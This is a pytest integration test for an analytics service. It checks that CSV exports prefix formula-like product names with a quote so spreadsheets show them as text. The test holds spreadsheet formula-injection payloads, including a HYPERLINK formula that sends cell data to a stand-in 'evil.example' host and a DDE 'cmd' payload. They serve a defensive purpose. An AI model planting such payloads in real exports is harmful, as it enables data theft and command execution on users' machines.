"""The CSV exports carry text from events (product names, categories) to an operator's
spreadsheet: text a spreadsheet would run as a formula goes out with a leading `'`, while
numbers, negative ones included, stay numbers; on PostgreSQL and SQLite."""

from __future__ import annotations

import csv
import io

import pytest

from shared_events.catalog import ProductCreatedV1, SkuSnapshot
from shared_events.order import OrderConfirmedV1
from shared_events.payment import PaymentRefundedV1

from .conftest import Analytics, cny, days_before_today, fresh_ids, placed

pytestmark = pytest.mark.integration

# Product names a spreadsheet would read as formulas: each starting character OWASP lists.
HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?d="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_formulas_in_product_names_are_exported_as_text(analytics: Analytics) -> None:
    d, ids = days_before_today(2), fresh_ids()
    send = analytics.deliver
    products = {}
    for n, name in enumerate(HOSTILE_NAMES):
        product, sku, order = f"{ids['P-TEA']}-{n}", f"{ids['TEA']}-{n}", f"{ids['O1']}-{n}"
        products[product] = name
        await send(
            ProductCreatedV1(
                product_id=product,
                name=name,
                category="=1+1" if n == 0 else "tea",
                skus=[SkuSnapshot(sku=sku, price=cny(1000))],
                status="PUBLISHED",
                version=1,
            ),
            d.at(d.first, 0),
        )
        amount = 1000 * (n + 1)  # top products in reverse order of the list
        await send(
            placed(order, ids["m1"], [(sku, product, 1, amount)], d.at(d.first, 1)),
            d.at(d.first, 1),
        )
        await send(
            OrderConfirmedV1(order_id=order, member_id=ids["m1"], total=cny(amount)),
            d.at(d.first, 1, 1),
        )
    # D2: money given back and nothing sold, so its net GMV is negative.
    refund = PaymentRefundedV1(
        order_id=f"{ids['O1']}-0", payment_id="p", refund_id="r", amount=cny(1000)
    )
    await send(refund, d.at(d.second, 2))
    period = {"from": d.first.isoformat(), "to": d.second.isoformat()}

    top = await analytics.get("/top-products", format="csv", **period)
    assert top.status_code == 200 and top.headers["content-type"].startswith("text/csv")
    exported = [(r["product_id"], r["name"], r["category"], r["gmv"]) for r in rows(top.text)]
    by_gmv = list(enumerate(products.items()))[::-1]
    assert exported == [
        (product, "'" + name, "'=1+1" if n == 0 else "tea", str(1000 * (n + 1)))
        for n, (product, name) in by_gmv
    ]
    # The JSON report keeps the names as they are: the quote is the CSV's, for spreadsheets.
    json_names = [i["name"] for i in (await analytics.json("/top-products", **period))["items"]]
    assert json_names == [name for _, (_, name) in by_gmv]

    kpis = rows((await analytics.get("/kpis", format="csv", **period)).text)
    assert [(r["start"], r["gmv"], r["net_gmv"]) for r in kpis] == [
        (d.first.isoformat(), "21000", "21000"),
        (d.second.isoformat(), "0", "-1000"),  # a number, not text
        ("total", "21000", "20000"),
    ]
